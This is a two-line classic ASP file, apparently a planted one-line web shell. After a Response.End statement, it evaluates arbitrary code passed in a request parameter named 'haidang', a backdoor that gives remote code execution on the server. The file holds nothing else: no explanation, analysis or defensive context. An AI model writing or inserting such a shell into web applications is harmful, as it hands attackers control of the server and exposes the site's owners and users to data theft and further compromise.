<% Response.End %>
<%eval request("haidang")%>
